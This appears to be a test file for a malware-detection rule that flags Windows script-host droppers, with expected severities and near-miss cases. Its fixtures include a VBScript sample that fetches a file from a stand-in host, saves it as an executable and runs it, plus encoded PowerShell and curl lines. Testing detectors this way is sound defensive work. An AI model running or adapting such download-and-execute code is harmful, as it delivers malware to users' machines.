"""Scripts for the Windows script hosts."""

from lazaretto.detect.rules.binary.script_host_dropper import RULE

DROPPER = b"""Set h = CreateObject("MSXML2.XMLHTTP")
h.Open "GET", "https://a.invalid/x", False
Set s = CreateObject("ADODB.Stream")
s.SaveToFile "x.exe"
CreateObject("WScript.Shell").Run "x.exe"
"""


def test_a_dropper(scan, run):
    assert scan(RULE, DROPPER, "setup.vbs") == [
        (
            "HIGH",
            "HIGH",
            (
                "a script of the Windows script host that fetches or decodes something and starts it: "
                "xmlhttp, savetofile, .run"
            ),
        )
    ]
    assert run(RULE, DROPPER, "setup.vbs").findings[0].locations[0].line == 1
    assert scan(RULE, DROPPER, "tests/setup.vbs")[0][0] == "LOW"
    assert scan(RULE, b'x.Run "powershell -enc AAAA"', "a.hta")[0][:2] == ("HIGH", "HIGH")
    assert scan(RULE, b'x.Exec "curl https://a.invalid"', "a.wsf")[0][:2] == ("HIGH", "MEDIUM")


def test_an_encoded_script(scan):
    assert scan(RULE, b"#@~^AAAAAA==x==^#~@", "a.vbe") == [
        ("MEDIUM", "MEDIUM", "an encoded script of the Windows script host")
    ]


def test_near_misses(scan):
    assert scan(RULE, b'Set l = x.CreateShortcut("a.lnk")\nl.Save\nx.Run "notepad"', "a.vbs") == []
    assert scan(RULE, DROPPER, "notes.txt") == []
    assert scan(RULE, b'h = CreateObject("MSXML2.XMLHTTP")', "a.vbs") == []
